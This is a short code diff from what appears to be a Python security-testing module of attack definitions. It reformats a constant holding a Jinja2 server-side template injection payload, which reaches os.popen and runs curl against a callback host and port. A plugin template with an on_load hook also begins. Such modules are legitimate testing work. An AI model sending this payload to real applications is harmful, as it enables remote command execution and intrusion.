@@ -8,9 +8,7 @@ import urllib.request
 
 from freehold.residency.attacks import MARK, AbsentError, Attack, Target
 
-_TEMPLATE = (
-    "{{ cycler.__init__.__globals__.os.popen('curl -sm3 http://%s:%d/template').read() }}"
-)
+_TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('curl -sm3 http://%s:%d/template').read() }}"
 _PLUGIN = """
 import {library}
 def on_load():
